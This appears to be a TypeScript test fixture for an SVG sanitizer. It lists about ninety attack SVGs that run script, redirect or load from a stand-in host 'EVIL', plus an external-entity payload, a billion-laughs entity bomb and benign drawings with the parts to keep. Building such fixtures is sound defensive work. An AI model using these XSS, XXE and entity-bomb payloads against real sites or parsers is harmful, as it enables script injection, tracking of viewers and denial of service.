/**
 * Drawings (SVG) that run, leave or load something when somebody opens them on their own. `EVIL` stands for another host, and all that
 * a script of theirs does is to ask it for `/ran`.
 */
const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100">';
const area = '<rect width="100" height="100" fill="#abc"/>';
const svg = (inner: string, before = '') => `${before}${open}${inner}</svg>`;
const html = (inner: string) =>
  svg(`<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">${inner}</body></foreignObject>`);
const run = `new Image().src='EVIL/ran'`;
const sheet = (text: string) => svg(`<style>${text}</style>${area}`);

/** Name → drawing. */
export const attackDrawings: Record<string, string> = {
  // Run.
  script: svg(`<script>${run}</script>`),
  'script by its namespace': svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${run}</x:script>`),
  'script of HTML': svg(`<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`),
  'script by its address': svg('<script href="EVIL/ran.js"/>'),
  'script by its older address': svg('<script xlink:href="EVIL/ran.js"/>'),
  'script in a text without markup': svg(`<script><![CDATA[${run}]]></script>`),
  'script from an entity': svg('&a;', `<!DOCTYPE svg [<!ENTITY a "<script>${run}</script>">]>`),
  'script inside of metadata': svg(`<metadata><script>${run}</script></metadata>`),
  'script beside its names': svg(`<switch><g><defs><script>${run}</script></defs></g></switch>`),
  onload: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" onload="${run}"/>`,
  'onload by a rule for attributes': svg(area, `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>`),
  'onload from an entity': `<!DOCTYPE svg [<!ENTITY a "${run}">]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" onload="&a;"/>`,
  onbegin: svg(`<g><animate attributeName="x" dur="1s" onbegin="${run}"/></g>`),
  onclick: svg(`<rect width="100" height="100" onclick="${run}"/>`),
  onpointerdown: svg(`<rect width="100" height="100" onpointerdown="${run}"/>`),
  onfocusin: svg(`<a href="#a" onfocusin="${run}">${area}</a>`),
  onanimationstart: svg(
    `<style>@keyframes a{to{opacity:.5}}rect{animation:a 1s}</style><rect width="100" height="100" onanimationstart="${run}"/>`,
  ),
  onerror: svg(`<image href="EVIL/none.png" onerror="${run}"/>`),
  'onload of an image': svg(`<image href="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="${run}" onload="${run}"/>`),
  'XSLT from data': svg(
    area,
    `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(
      `<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html></x:template></x:stylesheet>`,
    )}"?>`,
  ),
  'XSLT from the drawing': svg(
    `<x:stylesheet id="a" version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html></x:template></x:stylesheet>`,
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#a"?>',
  ),
  'XSLT from elsewhere': svg(area, '<?xml-stylesheet type="text/xsl" href="EVIL/a.xsl"?>'),
  'a link to a script': svg(`<a href="javascript:${run}">${area}</a>`),
  'a link to a script, by its older address': svg(`<a xlink:href="javascript:${run}">${area}</a>`),
  'a link to a script, by another prefix': svg(
    `<a xmlns:y="http://www.w3.org/1999/xlink" y:href="javascript:${run}">${area}</a>`,
  ),
  'a link to a script with gaps': svg(`<a href=" java&#9;script&#10;:${run}">${area}</a>`),
  'a link to data': svg(`<a href="data:text/html,&lt;script>${run}&lt;/script>">${area}</a>`),
  'a link set to a script': svg(`<a><set attributeName="href" to="javascript:${run}"/>${area}</a>`),
  'a link set to a script, by its older address': svg(`<a><set attributeName="xlink:href" to="javascript:${run}"/>${area}</a>`),
  'a link animated to a script': svg(
    `<a><animate attributeName="href" values="javascript:${run};javascript:${run}" dur="9s"/>${area}</a>`,
  ),
  'a link set from outside of it': svg(
    `<a id="a" href="#">${area}</a><set href="#a" attributeName="href" to="javascript:${run}"/>`,
  ),
  'an event set': svg(`<g>${area}<set attributeName="onclick" to="${run}"/></g>`),
  'a drawing used from data': svg(
    `<use href="data:image/svg+xml,&lt;svg id='a' xmlns='http://www.w3.org/2000/svg' onload='${run}'>&lt;/svg>#a"/>`,
  ),
  'a frame': html(`<iframe srcdoc="&lt;script>${run}&lt;/script>"></iframe>`),
  'a frame by its address': html(`<iframe src="javascript:${run}"></iframe>`),
  'a frame without a place for it': svg(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/frame"/>`),
  'a frame by its namespace': svg('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="EVIL/frame"/>'),
  'an object': html('<object data="EVIL/object"></object>'),
  'something embedded': html('<embed src="EVIL/embedded"/>'),
  'an event of HTML': html(`<img src="EVIL/none" onerror="${run}"/>`),
  'a details that opens': html(`<details open="" ontoggle="${run}">a</details>`),
  'a handler': svg(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" type="application/ecmascript">${run}</handler>`,
  ),

  // Leave.
  'a page that moves on': html('<meta http-equiv="refresh" content="0;url=EVIL/left"/>'),
  'a page that moves on, without a place for it': svg(
    '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=EVIL/left"/>',
  ),
  'a page that moves on, by its namespace': svg(
    '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=EVIL/left"/>',
  ),
  'a link to another host': svg(`<a href="EVIL/left">${area}</a>`),
  'a link to another host in an address that is moved': svg(`<g xml:base="EVIL/"><a href="left">${area}</a></g>`),
  'a link set to another host': svg(`<a><set attributeName="href" to="EVIL/left"/>${area}</a>`),
  'a link of HTML': html('<a href="EVIL/left" style="position:absolute;inset:0;display:block">a</a>'),
  'a form': html('<form action="EVIL/left"><button style="width:100px;height:100px">a</button></form>'),

  // Load.
  'an image of another host': svg('<image href="EVIL/a.png" width="9" height="9"/>'),
  'an image of another host, by its older address': svg('<image xlink:href="EVIL/a.png" width="9" height="9"/>'),
  'an image without a scheme': svg('<image href="//HOST/a.png" width="9" height="9"/>'),
  'an image set to another host': svg('<image width="9" height="9"><set attributeName="href" to="EVIL/a.png"/></image>'),
  'an image that brings one': svg(
    `<image width="9" height="9" href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='EVIL/a.png'/%3E%3C/svg%3E"/>`,
  ),
  'an image of HTML': html('<img src="EVIL/a.png"/>'),
  'an image of HTML without a place for it': svg('<img xmlns="http://www.w3.org/1999/xhtml" src="EVIL/a.png"/>'),
  'a film': html('<video src="EVIL/a.mp4" autoplay=""></video>'),
  'a sound without a place for it': svg('<audio xmlns="http://www.w3.org/1999/xhtml" src="EVIL/a.mp3" autoplay=""/>'),
  'a film by its poster': html('<video poster="EVIL/a.png"></video>'),
  'a stylesheet named in HTML': html('<link rel="stylesheet" href="EVIL/a.css"/>'),
  'a stylesheet named without a place for it': svg(
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="EVIL/a.css"/>',
  ),
  'a stylesheet named in front': svg(area, '<?xml-stylesheet type="text/css" href="EVIL/a.css"?>'),
  'a filter with an image': svg(
    `<filter id="f"><feImage href="EVIL/a.png"/></filter><rect width="100" height="100" filter="url(#f)"/>`,
  ),
  'a drawing used from another host': svg('<use href="EVIL/a.svg#a"/>'),
  'a document type from another host': svg(area, '<!DOCTYPE svg SYSTEM "EVIL/a.dtd">'),
  'an inclusion': svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="EVIL/a.txt" parse="text"/>'),
  '@import': sheet('@import url(EVIL/a.css);rect{fill:red}'),
  '@import as a text': sheet('@import "EVIL/a.css";'),
  '@import with a letter by its number': sheet('@\\69 mport "EVIL/a.css";'),
  '@import with a letter by its number and a line end': sheet('@\\69&#13;&#10;mport "EVIL/a.css";'),
  '@import in two texts': sheet('@im<![CDATA[port "EVIL/a.css";]]>'),
  '@import around a comment of XML': sheet('@im<!--! a -->port "EVIL/a.css";'),
  '@import behind a text that does not end': sheet('@layer a"\n;@import "EVIL/a.css";"'),
  '@import in a style of HTML': svg('<style xmlns="http://www.w3.org/1999/xhtml">@import "EVIL/a.css";</style>'),
  'a background in a rule': sheet('svg{background:url(EVIL/a.png)}'),
  'a background with letters by their numbers': sheet('svg{background:u\\72 l(EVIL/a.png)}'),
  'a background in quotes': sheet(`svg{background:url( 'EVIL/a.png' )}`),
  'a background from a set': sheet('svg{background:image-set("EVIL/a.png" 1x)}'),
  'a background from an older set': sheet('svg{background:-webkit-image-set(url("EVIL/a.png") 1x)}'),
  'a background by a name': sheet('svg{--a:url(EVIL/a.png);background:var(--a)}'),
  'a background for dark and light': sheet('@media all{svg{background:url(EVIL/a.png)}}'),
  'a background as an attribute': `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" style="background:url(EVIL/a.png)"/>`,
  'a background that an animation brings': sheet('@keyframes a{from,to{background:url(EVIL/a.png)}}svg{animation:a 9s}'),
  'a background that is set': svg('<set attributeName="style" to="background:url(EVIL/a.png)"/>'),
  'a mask': sheet('svg{mask-image:url(EVIL/a.png)}'),
  'a pointer': sheet('svg{cursor:url(EVIL/a.png),auto}'),
  'a filter from elsewhere': svg('<rect width="100" height="100" filter="url(EVIL/a.svg#f)"/>'),
  'a pattern from elsewhere': svg('<rect width="100" height="100" fill="url(EVIL/a.svg#p)"/>'),
  'a font': svg(`<style>@font-face{font-family:a;src:url(EVIL/a.woff2)}</style><text y="50" font-family="a">a</text>`),
  'a filter that is set': svg('<rect width="100" height="100"><set attributeName="filter" to="url(EVIL/a.svg#f)"/></rect>'),
};

const laughs = Array.from({ length: 9 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`).join('');

/** What is no drawing at all: a finding, in no time. */
export const refusedDrawings: Record<string, string> = {
  'an entity from another host': svg('<text>&a;</text>', '<!DOCTYPE svg [<!ENTITY a SYSTEM "EVIL/a.txt">]>'),
  'a page in disguise': `<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 1 1"><script>${run}</script></svg>`,
  'a billion of laughs': svg('<text>&a9;</text>', `<!DOCTYPE svg [<!ENTITY a0 "ha">${laughs}]>`),
  'a prefix that nobody explains': svg(`<y:script>${run}</y:script>`),
};

const gif = 'data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=';

/** What drawings really hold: name → drawing and the pieces of it that are published. */
export const usualDrawings: Record<string, { drawing: string; kept: string[] }> = {
  'motion by a style': {
    drawing: sheet('@keyframes turn{to{transform:rotate(1turn)}}rect{animation:turn 2s linear infinite}'),
    kept: ['@keyframes turn', 'animation:turn 2s linear infinite'],
  },
  'motion by elements': {
    drawing: svg('<circle r="9"><animate attributeName="r" values="1;9" dur="2s" repeatCount="indefinite"/></circle>'),
    kept: ['<animate attributeName="r"', 'values="1;9"'],
  },
  'what it uses again': {
    drawing: svg(`<defs><g id="a">${area}</g></defs><use href="#a"/><use xlink:href="#a" x="9"/>`),
    kept: ['href="#a"'],
  },
  'gradients, patterns, masks, filters': {
    drawing: svg(
      '<defs><linearGradient id="g"><stop stop-color="red"/><stop offset="1"/></linearGradient><filter id="f"><feGaussianBlur stdDeviation="2"/></filter><mask id="m"><rect width="9" height="9" fill="#fff"/></mask></defs><path d="M0 0h9v9z" fill="url(#g)" filter="url(#f)" mask="url(#m)"/>',
    ),
    kept: ['fill="url(#g)"', 'filter="url(#f)"', 'mask="url(#m)"', '<feGaussianBlur', '<linearGradient'],
  },
  pixels: { drawing: svg(`<image width="9" height="9" href="${gif}"/>`), kept: [gif] },
  'a font of its own': {
    drawing: sheet('@font-face{font-family:a;src:url(data:font/woff2;base64,d09GMg)}text{font-family:a}'),
    kept: ['src:url(data:font/woff2;base64,d09GMg)'],
  },
  'a style without the sheet that it names': {
    drawing: sheet('@import url("https://fonts.example/css?family=A&amp;display=swap");.a{fill:red}'),
    kept: ['.a{fill:red}'],
  },
  'what stands in a link': {
    drawing: svg('<a href="https://example.com"><path d="M0 0h9v9z"/></a>'),
    kept: ['<path d="M0 0h9v9z"/>'],
  },
  'words, a title and names': {
    drawing: svg('<title>Rock &amp; roll</title><text x="1" y="9" aria-label="An image (left)">A &lt; B</text>'),
    kept: ['<title>Rock &amp; roll</title>', 'A &lt; B', 'aria-label="An image (left)"'],
  },
};
